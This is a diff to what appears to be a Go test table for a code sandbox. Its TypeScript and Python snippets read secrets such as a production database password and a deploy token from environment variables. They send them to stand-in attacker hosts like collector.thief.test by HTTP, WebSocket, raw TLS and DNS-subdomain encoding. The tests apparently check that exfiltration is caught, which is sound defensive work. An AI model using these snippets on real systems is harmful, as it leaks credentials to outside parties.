@@ -26,7 +26,7 @@ console.log("sent", await send("` + catalogHost + `"));
 await new Promise((r) => setTimeout(r, 20000));
 console.log("still here");`}, "body"},
 	"TypeScript, from a variable": {world.Run{Code: `
-console.log("sent", (await fetch("` + catalogHost + `?k=" + Deno.env.get("PROD_DB_PASSWORD"))).status);
+console.log("sent", (await fetch("` + catalogHost + `?k=" + Deno.env.get("prod_db_password"))).status);
 await new Promise((r) => setTimeout(r, 20000));
 console.log("still here");`}, "query"},
 	"TypeScript, all variables": {world.Run{Code: `
@@ -34,7 +34,7 @@ console.log("sent", (await fetch("` + catalogHost + `", { method: "POST", body: 
 await new Promise((r) => setTimeout(r, 20000));
 console.log("still here");`}, "body"},
 	"TypeScript, in a WebSocket": {world.Run{Code: `
-const loot = Deno.env.get("DEPLOY_TOKEN"), ws = new WebSocket("wss://httpbin.test/x/ws?t=1");
+const loot = Deno.env.get("deploy_token"), ws = new WebSocket("wss://httpbin.test/x/ws?t=1");
 await new Promise((done) => { ws.onopen = () => { ws.send(JSON.stringify({ loot })); }; ws.onclose = done; ws.onerror = done; ws.onmessage = (m) => { if (m.data !== "hello ") console.log("sent 200", m.data); }; });
 await new Promise((r) => setTimeout(r, 20000));
 console.log("still here");`}, "message"},
@@ -51,14 +51,14 @@ print("still here")`}, "body"},
 import os, socket, ssl, time
 at = socket.gethostbyname("d.wild.test")
 tls = ssl.create_default_context().wrap_socket(socket.create_connection((at, 443)), server_hostname="collector.thief.test")
-body = os.environ["PROD_DB_PASSWORD"]
+body = os.environ["prod_db_password"]
 tls.sendall(f"POST / HTTP/1.1\r\nHost: collector.thief.test\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode())
 print("sent", tls.recv(1000))
 time.sleep(20)
 print("still here")`}, "body"},
 	"Python, in a name": {world.Run{Language: "python", Code: `
 import os, socket, time
-loot = os.environ["DEPLOY_TOKEN"].encode().hex()
+loot = os.environ["deploy_token"].encode().hex()
 try:
     print("sent 200", socket.gethostbyname(loot[:40] + "." + loot[40:] + ".thief.test"))
 except OSError as e:
